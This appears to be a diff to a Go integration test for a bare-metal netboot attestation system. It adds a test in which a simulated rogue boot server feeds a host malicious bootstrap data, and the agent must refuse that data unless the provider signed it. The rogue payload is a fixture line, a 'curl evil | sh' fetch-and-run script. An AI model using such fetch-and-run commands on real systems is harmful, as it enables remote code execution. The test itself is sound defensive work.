@@ -2,13 +2,15 @@ package netboot_test
 
 import (
 	"context"
+	"crypto/ed25519"
 	"net"
-	"net/netip"
+	"net/http"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/yonder-dev/yonder/test/gobuild"
 
@@ -16,11 +18,14 @@ import (
 	. "github.com/onsi/gomega"
 	"github.com/prometheus/client_golang/prometheus"
 
+	wire "github.com/yonder-dev/yonder/hostruntime/attest"
 	"github.com/yonder-dev/yonder/hostruntime/attest/swtpm"
 	"github.com/yonder-dev/yonder/infrastructure-baremetal/internal/attest"
+	"github.com/yonder-dev/yonder/infrastructure-baremetal/internal/bootserver"
 	"github.com/yonder-dev/yonder/infrastructure-baremetal/internal/inventory"
 	"github.com/yonder-dev/yonder/infrastructure-baremetal/internal/netboot"
 	"github.com/yonder-dev/yonder/test/labnet"
+	"github.com/yonder-dev/yonder/test/metalboot"
 )
 
 // The boot step as a booted host runs it: `yonder-agent attest`, inside the host's network namespace,
@@ -35,12 +40,14 @@ func TestYonderAgentAttestCommand(t *testing.T) {
 	host, err := n.Attach(ctx, "attest-cli")
 	g.Expect(err).NotTo(HaveOccurred())
 	mac := net.HardwareAddr{0x52, 0x54, 0x00, 0x7e, byte(n.Slot), 0x03}
-	inv := inventory.NewStatic(inventory.Host{Name: "metal/host-8", MAC: mac, Address: netip.AddrFrom4([4]byte{10, 250, byte(n.Slot), 78}),
+	inv := inventory.NewStatic(inventory.Host{Name: "metal/host-8", MAC: mac, Address: host.Address,
 		Boot: inventory.BootConfig{Kernel: "vmlinuz", Initrd: "initrd.img", Cmdline: "console=ttyS0"}})
+	roots, intermediates := swtpmRoots(t)
 	store := attest.NewMemoryStore()
 	store.SetBootstrapData("metal/host-8", []byte("join-config-for-host-8"))
+	signer, serverKey := signingKey(t)
 	svcs, err := netboot.Start(ctx, netboot.Config{Interface: n.Bridge, ServerIP: n.Gateway, HTTPPort: 8080, TFTPPort: 69,
-		ArtifactsDir: t.TempDir()}, inv, store, prometheus.NewRegistry(), testr.New(t))
+		ArtifactsDir: t.TempDir(), Attestation: attest.Config{EKRoots: roots, EKIntermediates: intermediates, SigningKey: signer}}, inv, store, prometheus.NewRegistry(), testr.New(t))
 	g.Expect(err).NotTo(HaveOccurred())
 	t.Cleanup(func() { _ = svcs.Stop() })
 
@@ -67,7 +74,7 @@ func TestYonderAgentAttestCommand(t *testing.T) {
 	output := filepath.Join(work, "run", "bootstrap-data")
 	attestCmd := func() (string, error) {
 		b, err := exec.Command("nsenter", "--net="+host.NamespacePath, agentBin, "attest",
-			"--tpm", sw.Socket, "--cmdline", cmdline, "--output", output).CombinedOutput()
+			"--tpm", sw.Socket, "--cmdline", cmdline, "--output", output, "--server-key", serverKey).CombinedOutput()
 		return string(b), err
 	}
 	msg, err := attestCmd()
@@ -84,4 +91,94 @@ func TestYonderAgentAttestCommand(t *testing.T) {
 	msg, err = attestCmd()
 	g.Expect(err).To(HaveOccurred())
 	g.Expect(msg).To(ContainSubstring("refused this host (UnknownTicket)"))
+}
+
+// signingKey is the provider's signing key (for attest.Config) and the file of its public half (the boot
+// image's /etc/yonder/boot-server.pub).
+func signingKey(t *testing.T) (ed25519.PrivateKey, string) {
+	t.Helper()
+	dir := t.TempDir()
+	keyFile, pub, err := metalboot.GenerateSigningKey(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	signer, err := attest.LoadSigningKey(keyFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	pubFile := filepath.Join(dir, "boot-server.pub")
+	if err := os.WriteFile(pubFile, pub, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return signer, pubFile
+}
+
+// A rogue boot server on the boot LAN answers the host first (its DHCP names its own script) and runs the
+// real protocol with its own attestation service: it enrols the host's TPM (nothing stops it: the TPM is
+// the host's) and hands it data of its choosing, encrypted to the host's public EK. Without the
+// provider's key in the boot image the agent would write (and the image run) that data — the attack;
+// with it the agent refuses, naming EnvelopeNotSignedByProvider, and writes nothing.
+func TestAgentRefusesARogueBootServer(t *testing.T) {
+	g := NewWithT(t)
+	ctx := context.Background()
+	agentBin := gobuild.ForTest(t, "./hostruntime/cmd/yonder-agent", gobuild.Options{})
+	n := labnet.NewForTest(t)
+	host, err := n.Attach(ctx, "rogue-victim")
+	g.Expect(err).NotTo(HaveOccurred())
+	mac := net.HardwareAddr{0x52, 0x54, 0x00, 0x7d, byte(n.Slot), 0x04}
+	_, serverKey := signingKey(t) // the provider's key, built into the victim's boot image
+
+	// The rogue: real boot HTTP server and attestation service, its own key (or none), its own data.
+	rogueStore := attest.NewMemoryStore()
+	rogueStore.SetBootstrapData("rogue/victim", []byte("#!/bin/sh\ncurl evil | sh\n"))
+	rogueSigner, _ := signingKey(t)
+	rogueSvc := attest.New(attest.Config{InsecureAcceptAnyEK: true, SigningKey: rogueSigner}, rogueStore, testr.New(t), nil)
+	ln, err := net.Listen("tcp4", n.Gateway.String()+":0")
+	g.Expect(err).NotTo(HaveOccurred())
+	base := "http://" + ln.Addr().String()
+	rogue, err := bootserver.New(bootserver.Config{BaseURL: base, ArtifactsDir: t.TempDir(), Tickets: rogueSvc, API: rogueSvc.Handler(),
+		Lookup: inventory.NewStatic(inventory.Host{Name: "rogue/victim", MAC: mac, Boot: inventory.BootConfig{Kernel: "vmlinuz", Cmdline: "console=ttyS0"}})},
+		testr.New(t), nil)
+	g.Expect(err).NotTo(HaveOccurred())
+	srv := &http.Server{Handler: rogue.Handler(), ReadHeaderTimeout: 5 * time.Second}
+	go func() { _ = srv.Serve(ln) }()
+	t.Cleanup(func() { _ = srv.Close(); _ = rogue.Close() })
+
+	dir, err := os.MkdirTemp("", "yswtpm-")
+	g.Expect(err).NotTo(HaveOccurred())
+	sw, err := swtpm.Start(ctx, dir)
+	g.Expect(err).NotTo(HaveOccurred())
+	t.Cleanup(func() { _ = sw.Stop(); _ = os.RemoveAll(dir) })
+	work := t.TempDir()
+	boot := func(extra ...string) (string, string, error) {
+		script, err := exec.Command("nsenter", "--net="+host.NamespacePath, "curl", "-sS", "--fail", base+"/ipxe/"+mac.String()).CombinedOutput()
+		g.Expect(err).NotTo(HaveOccurred(), string(script))
+		var kernelLine string
+		for _, l := range strings.Split(string(script), "\n") {
+			if strings.HasPrefix(l, "kernel ") {
+				kernelLine = l
+			}
+		}
+		cmdline := filepath.Join(work, "cmdline")
+		g.Expect(os.WriteFile(cmdline, []byte(strings.TrimPrefix(kernelLine, "kernel ")), 0o600)).To(Succeed())
+		output := filepath.Join(t.TempDir(), "bootstrap-data")
+		args := append([]string{"--net=" + host.NamespacePath, agentBin, "attest", "--tpm", sw.Socket, "--cmdline", cmdline, "--output", output}, extra...)
+		b, err := exec.Command("nsenter", args...).CombinedOutput()
+		return string(b), output, err
+	}
+
+	// The attack, with an image that does not carry the provider's key: the rogue's data is written.
+	msg, output, err := boot()
+	g.Expect(err).NotTo(HaveOccurred(), msg)
+	g.Expect(msg).To(ContainSubstring("WARNING: /etc/yonder/boot-server.pub is absent"))
+	data, err := os.ReadFile(output)
+	g.Expect(err).NotTo(HaveOccurred())
+	g.Expect(string(data)).To(ContainSubstring("curl evil"))
+
+	// Our boot image: refused by name, nothing written.
+	msg, output, err = boot("--server-key", serverKey)
+	g.Expect(err).To(HaveOccurred())
+	g.Expect(msg).To(ContainSubstring("refusing the bootstrap data from " + base + ": " + wire.ReasonEnvelopeNotSigned))
+	_, err = os.Stat(output)
+	g.Expect(err).To(MatchError(os.ErrNotExist))
 }
